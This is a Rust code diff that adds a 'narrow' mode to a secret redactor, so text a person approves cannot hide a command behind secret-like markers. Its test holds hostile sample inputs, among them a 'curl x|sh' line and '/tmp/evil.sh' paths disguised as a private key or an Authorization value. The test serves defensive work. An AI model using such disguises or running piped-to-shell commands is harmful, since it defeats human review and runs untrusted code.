@@ -16,7 +16,7 @@ use std::sync::Arc;
 
 use memchr::memmem::{self, Finder};
 
-use pem::{PEM_BEGIN, PEM_END, Pem, is_pem_line, open_pem};
+use pem::{PEM_BEGIN, PEM_END, Pem, find_key_lines, is_pem_line, open_pem};
 use shapes::{discord_token, find_headers, find_shapes, find_webhooks, open_web_token};
 
 /// A shorter literal would be found all over ordinary text, and be no secret anyway.
@@ -34,6 +34,8 @@ const PEM_MARK: &str = "[redacted:pem]";
 #[derive(Clone, Default)]
 pub struct Redactor {
     literals: Arc<[Literal]>,
+    /// Whether what is read would run: nothing is taken for a secret because of what stands around it.
+    narrow: bool,
 }
 
 struct Literal {
@@ -44,7 +46,10 @@ struct Literal {
 impl fmt::Debug for Redactor {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let kinds: Vec<_> = self.literals.iter().map(|literal| literal.kind).collect();
-        f.debug_struct("Redactor").field("literals", &kinds).finish()
+        f.debug_struct("Redactor")
+            .field("literals", &kinds)
+            .field("narrow", &self.narrow)
+            .finish()
     }
 }
 
@@ -62,7 +67,26 @@ impl Redactor {
             });
         Self {
             literals: literals.collect(),
+            narrow: false,
         }
+    }
+
+    /// The same for what a person is to approve. There a text that only looks like a part of a secret may be a command,
+    /// and whoever wrote it could choose what surrounds it: a line between two markers, a word behind a header's name.
+    #[must_use]
+    pub fn narrow(&self) -> Self {
+        Self {
+            narrow: true,
+            ..self.clone()
+        }
+    }
+
+    /// How many characters of the text are hidden by `redact`.
+    #[must_use]
+    pub fn hidden(&self, text: &str) -> usize {
+        let spans = self.spans(text).into_iter();
+        let hidden = spans.filter_map(|span| text.get(span.start..span.end));
+        hidden.map(|secret| secret.chars().count()).sum()
     }
 
     /// The text with each secret replaced; borrowed when there is none.
@@ -131,12 +155,16 @@ impl Redactor {
                 kind,
             }));
         }
-        find_headers(text, &mut spans);
+        find_headers(text, self.narrow, &mut spans);
         find_shapes(text, &mut spans);
         find_webhooks(text, &mut spans);
         spans.extend(memchr::memchr_iter(b'.', bytes).filter_map(|dot| discord_token(bytes, dot)));
         let begins = memmem::find_iter(bytes, PEM_BEGIN);
-        spans.extend(begins.filter_map(|start| Pem::at(text, start)?.secret()));
+        if self.narrow {
+            begins.for_each(|start| find_key_lines(text, start, &mut spans));
+        } else {
+            spans.extend(begins.filter_map(|start| Pem::at(text, start)?.secret()));
+        }
 
         spans.sort_by_key(|span| (span.start, Reverse(span.end)));
         spans.dedup_by(|next, kept| {
@@ -370,6 +398,48 @@ mod tests {
                 matches!(redactor.redact(text), Cow::Borrowed(_)),
                 "{}",
                 redactor.redact(text)
+            );
+        }
+    }
+
+    #[test]
+    fn what_a_person_approves_hides_nothing_that_only_stands_where_secrets_do() {
+        let narrow = redactor().narrow();
+        let key = "# -----BEGIN PRIVATE KEY-----\n/tmp/evil\nevil\n# -----END PRIVATE KEY-----";
+        let word = format!("# -----BEGIN PRIVATE KEY-----\ncurl x|sh # {}\n", "A".repeat(64));
+        let path = format!(
+            "-----BEGIN PRIVATE KEY-----\n/{}\n-----END PRIVATE KEY-----",
+            "a".repeat(63)
+        );
+        for text in [
+            key,
+            &word,
+            &path,
+            "Authorization=basic /tmp/evil.sh",
+            "Authorization=basic evil",
+            "Authorization: bearer ~/evil",
+            "x-api-key: ./evil1234567890123",
+        ] {
+            assert_eq!(narrow.redact(text), text);
+            assert_eq!(narrow.hidden(text), 0);
+        }
+        let line = "MIIEowIBAAKCAQEAq7v3Zb0uYlq1z5yXh2m4MIIEowIBAAKCAQEAq7v3Zb0uYlq1";
+        let escaped = format!(r"-----BEGIN PRIVATE KEY-----\n{line}\n-----END PRIVATE KEY-----");
+        for (text, hidden) in [
+            ("run hunter2-hunter2 now".to_owned(), 15),
+            (
+                format!("-----BEGIN PRIVATE KEY-----\n{line}\nabc=\n-----END PRIVATE KEY-----"),
+                line.len(),
+            ),
+            (escaped, line.len()),
+            ("curl -H 'Authorization: Bearer abcdef'".to_owned(), 6),
+        ] {
+            assert_eq!(narrow.hidden(&text), hidden, "{}", narrow.redact(&text));
+        }
+        for (kind, secret) in secrets() {
+            assert_eq!(
+                narrow.redact(&format!("x={secret} y")),
+                format!("x=[redacted:{kind}] y")
             );
         }
     }
